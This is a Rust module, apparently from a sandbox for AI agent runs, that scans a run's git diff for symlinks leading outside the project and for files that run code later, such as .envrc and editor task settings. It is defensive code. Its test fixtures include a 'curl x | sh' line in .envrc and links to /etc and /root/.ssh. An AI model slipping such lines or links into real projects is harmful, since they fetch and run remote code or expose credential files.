//! What a run's changes may not land in its project without the user
//! saying so (`--include-protected`): symbolic links that point outside
//! the project, through which the next tool that writes there would write
//! anywhere the user may; and files that run code later
//! ([`moat_grants::protected`]: git hooks, `.envrc`, a project's agent
//! CLI settings…), which a run keeps as they were unless it was let change
//! them (`--allow-write-protected`) — or which a worker sent back.
//!
//! Found in the patch itself (the run's diff, or what its worker sent
//! back), so every way changes land is checked the same way.

use std::path::{Component, Path, PathBuf};

/// A change of a run that is not landed without the user's word.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Protected {
    /// The file, relative to the project.
    pub path: String,
    /// Why, in a few words.
    pub why: String,
}

impl std::fmt::Display for Protected {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{} ({})", self.path, self.why)
    }
}

/// The git mode of a symbolic link.
const LINK_MODE: &str = "120000";

impl Protected {
    /// The protected changes of `patch` (a git diff): links it makes or
    /// changes whose target lies outside the project, and the files of
    /// the list of those that run code later it makes or changes.
    pub fn in_patch(patch: &[u8]) -> Vec<Protected> {
        in_patch(patch)
    }
}

/// See [`Protected::in_patch`].
pub(crate) fn in_patch(patch: &[u8]) -> Vec<Protected> {
    let text = String::from_utf8_lossy(patch);
    let mut found = Vec::new();
    let mut file: Option<String> = None;
    let mut link = false;
    let mut in_hunk = false;
    let mut target_seen = false;
    for line in text.lines() {
        if line.starts_with("diff --git ") {
            (file, link, in_hunk, target_seen) = (None, false, false, false);
            continue;
        }
        if !in_hunk {
            if let Some(mode) = line
                .strip_prefix("new file mode ")
                .or_else(|| line.strip_prefix("new mode "))
            {
                link = mode.trim() == LINK_MODE;
            } else if line.starts_with("index ") {
                // `index A..B MODE`, when the mode did not change.
                if line.split(' ').nth(2) == Some(LINK_MODE) {
                    link = true;
                }
            } else if let Some(path) = line.strip_prefix("+++ ") {
                file = unquoted(path).strip_prefix("b/").map(str::to_owned);
                if let Some(entry) = file.as_deref().and_then(moat_grants::protected::in_project) {
                    found.push(Protected {
                        path: file.clone().unwrap_or_default(),
                        why: entry.why.to_owned(),
                    });
                    // Listed once, whatever else it is.
                    link = false;
                }
            } else if line.starts_with("@@") {
                in_hunk = true;
            }
            continue;
        }
        if line.starts_with("@@") || target_seen || !link {
            continue;
        }
        if let (Some(target), Some(path)) = (line.strip_prefix('+'), &file) {
            target_seen = true;
            if leaves(Path::new(path), target) {
                found.push(Protected {
                    path: path.clone(),
                    why: format!("a link to {target}, outside the project"),
                });
            }
        }
    }
    found
}

/// Whether a link at `link` (relative to the project) to `target` leads
/// outside the project.
fn leaves(link: &Path, target: &str) -> bool {
    let target = Path::new(target);
    if target.is_absolute() {
        return true;
    }
    let mut at: PathBuf = link.parent().map(Path::to_path_buf).unwrap_or_default();
    for part in target.components() {
        match part {
            Component::ParentDir => {
                if !at.pop() {
                    return true;
                }
            }
            Component::Normal(name) => at.push(name),
            Component::CurDir => {}
            Component::RootDir | Component::Prefix(_) => return true,
        }
    }
    false
}

/// A path as git writes it in a patch: as is, or C-quoted when it holds
/// unusual bytes (only the quotes are taken off; such a path is shown,
/// not opened).
fn unquoted(path: &str) -> String {
    match path.strip_prefix('"').and_then(|p| p.strip_suffix('"')) {
        Some(inner) => inner.replace("\\\"", "\"").replace("\\\\", "\\"),
        None => path.to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_out_of_the_project_are_found_and_others_are_not() {
        let patch = b"diff --git a/out b/out\nnew file mode 120000\nindex 0000000..1\n--- /dev/null\n+++ b/out\n@@ -0,0 +1 @@\n+/etc\n\\ No newline at end of file\n\
diff --git a/sub/up b/sub/up\nnew file mode 120000\nindex 0000000..2\n--- /dev/null\n+++ b/sub/up\n@@ -0,0 +1 @@\n+../../home\n\\ No newline at end of file\n\
diff --git a/sub/in b/sub/in\nnew file mode 120000\nindex 0000000..3\n--- /dev/null\n+++ b/sub/in\n@@ -0,0 +1 @@\n+../notes.txt\n\\ No newline at end of file\n\
diff --git a/moved b/moved\nindex 4..5 120000\n--- a/moved\n+++ b/moved\n@@ -1 +1 @@\n-notes.txt\n+/root/.ssh\n\\ No newline at end of file\n\
diff --git a/file b/file\nnew file mode 100644\nindex 0000000..6\n--- /dev/null\n+++ b/file\n@@ -0,0 +1 @@\n+/etc\n";
        let found: Vec<String> = in_patch(patch).into_iter().map(|p| p.path).collect();
        assert_eq!(found, ["out", "sub/up", "moved"]);
    }

    #[test]
    fn files_that_run_code_later_are_found() {
        let patch = [
            "diff --git a/.envrc b/.envrc",
            "new file mode 100644",
            "index 0000000..1",
            "--- /dev/null",
            "+++ b/.envrc",
            "@@ -0,0 +1 @@",
            "+curl x | sh",
            "diff --git a/.vscode/tasks.json b/.vscode/tasks.json",
            "index 1..2 100644",
            "--- a/.vscode/tasks.json",
            "+++ b/.vscode/tasks.json",
            "@@ -1 +1 @@",
            "-{}",
            "+{ }",
            "diff --git a/src/main.rs b/src/main.rs",
            "index 1..2 100644",
            "--- a/src/main.rs",
            "+++ b/src/main.rs",
            "@@ -1 +1 @@",
            "-a",
            "+b",
        ]
        .join("\n");
        let patch = patch.as_bytes();
        let found = in_patch(patch);
        let paths: Vec<&str> = found.iter().map(|p| p.path.as_str()).collect();
        assert_eq!(paths, [".envrc", ".vscode/tasks.json"]);
        assert!(found[0].why.contains("direnv"), "{}", found[0].why);
    }
}
